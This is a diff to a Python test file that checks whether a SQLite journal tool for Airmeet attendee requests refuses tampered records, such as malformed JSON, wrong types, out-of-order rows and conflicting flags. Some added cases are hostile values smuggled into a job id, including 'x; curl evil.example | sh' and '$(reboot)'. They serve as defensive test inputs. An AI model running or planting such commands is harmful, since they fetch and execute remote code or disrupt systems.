@@ -6,6 +6,7 @@ import sqlite3
 import stat
 from collections.abc import Callable
 from contextlib import closing
+from itertools import islice
 from pathlib import Path
 from typing import Any
 
@@ -249,6 +250,7 @@ def test_a_table_behind_a_view_is_refused(path: Path) -> None:
 HOOK = '["webhooks.register",{},{}'
 LISTS = "UPDATE list SET facts = other(facts, '{}')"
 FACTS = "UPDATE facts SET value = '{}' WHERE name = '{}'"
+NOTE = "UPDATE input SET status = 'invalid', note = '{}'"
 REQUEST = "UPDATE entry SET request = '{}'"
 
 
@@ -265,6 +267,10 @@ REQUEST = "UPDATE entry SET request = '{}'"
         REQUEST.format('["attendees.add",{"airmeet_id":"event"},{},{"email":"a@b.de"}]'),
         REQUEST.format(HOOK + ",{}]").replace("entry", "input"),
         REQUEST.format(HOOK + ",{}]").replace("entry", "outcome") + ", unclear = 1",
+        # what is no request, or contradicts the flags of its list
+        REQUEST.format("no JSON"),
+        REQUEST.format('{"email":"a@b.de","x":{"y":1}'),
+        REQUEST.format(' ["webhooks.register"'),
         FACTS.format('"attendees.block"', "operation"),
         FACTS.format('"custom"', "operation"),
         # another event, or none
@@ -281,16 +287,31 @@ REQUEST = "UPDATE entry SET request = '{}'"
         # values of other types
         *(FACTS.format("[1]", name) for name in ("operation", "airmeet_id", "base", "salt", "run")),
         *(LISTS.format('{"' + name + '": 5}') for name in ("template", "options", "source", "columns", "note", "name")),
+        LISTS.format('{"columns": ["email", ["a"]]}'),
+        LISTS.format('{"columns": [], "source": {"header": ["email", 5]}}'),
+        LISTS.format('{"columns": [], "source": {"header": "email"}}'),
+        # an id that people would copy into a shell with "airmeet resume"
+        LISTS.format('{"job": "x; curl evil.example | sh"}'),
+        LISTS.format('{"job": "-o"}'),
+        LISTS.format('{"job": ["a"]}'),
+        FACTS.format('"$(reboot)"', "job"),
+        "UPDATE list SET id = 9223372036854775807",
         "UPDATE list SET facts = '[]'",
         "UPDATE list SET facts = '{'",
         "UPDATE facts SET value = '" + "[" * 100_000 + "'",
         "UPDATE outcome SET note = '[]'",
         "UPDATE outcome SET note = '{\"error\": 5}'",
+        'UPDATE outcome SET note = \'{"error": {"code": [1], "message": {}}}\'',
+        NOTE.format('{"key": 5}'),
+        NOTE.format('{"warnings": [["x"]]}'),
+        NOTE.format('{"warnings": [[5, "x"]]}'),
+        NOTE.format('{"duplicate_of": "x"}'),
+        LISTS.format('{"ignored": 5}'),
     ],
 )
 def test_what_no_run_has_recorded_is_an_error_of_the_file(path: Path, statement: str) -> None:
     writer = opened(path)
-    writer.write_facts({"base": "https://x.example", "airmeet_id": "event"})
+    writer.write_facts({"base": "https://x.example", "airmeet_id": "event", "job": "1234abcd"})
     writer.close()
     make(path)
     change(path, statement)
@@ -316,6 +337,45 @@ def test_a_run_of_a_program_takes_no_call_with_the_keys_and_no_odd_path(path: Pa
 
         assert str(path) in refusal(path, use)
         path.unlink()
+
+
+def test_an_odd_note_is_an_error_of_the_file_for_a_plan_too(path: Path) -> None:
+    make(path)
+    change(path, NOTE.format('{"warnings": [["x"]]}'))
+    writer = JournalWriter(path)
+    try:
+        with pytest.raises(JournalError, match=r"no run has recorded .* so nothing more is sent"):
+            list(writer.noted_rows(writer.lists()[0].id))
+    finally:
+        writer.close()
+
+
+def test_rows_out_of_order_in_a_page_are_an_error_and_not_read_forever(path: Path) -> None:
+    """SQLite believes a page, and a run reads on from the last row that it has read."""
+    writer = opened(path)
+    add_list(writer, people("a b c d"))
+    writer.close()
+    content = bytearray(path.read_bytes())
+    varint = bytes([0x90, 0x80, 0x80, 0x80, 0x02])  # the number of the third row of the first list
+    assert content.count(varint) == 1
+    place = content.index(varint)
+    content[place : place + 5] = bytes([0x90, 0x80, 0x9C, 0x80, 0x02])
+    path.write_bytes(content)
+
+    assert "out of order" in refusal(path, lambda path: list(islice(read_results(path), 100)))
+    assert "out of order" in refusal(path, use)
+
+
+@pytest.mark.parametrize("flag", ["registerAttendee", "sendEmailInvite"])
+def test_a_row_has_no_flag_that_its_list_has_not(path: Path, flag: str) -> None:
+    """It would stand in the body twice, and a server could go by the first one and mail everybody."""
+    make(path)
+    flags = '["attendees.add", {"airmeet_id": "event"}, {}, {"registerAttendee": false, "sendEmailInvite": false}]'
+    change(path, LISTS.format('{"template": ' + flags + "}"))
+    use(path)
+    change(path, REQUEST.format(f'{{"email":"a@b.de","{flag}":true}}'))
+
+    assert "asks for something else than its list" in refusal(path, use)
 
 
 def test_what_is_said_of_a_list_is_what_its_requests_ask_for(path: Path) -> None:
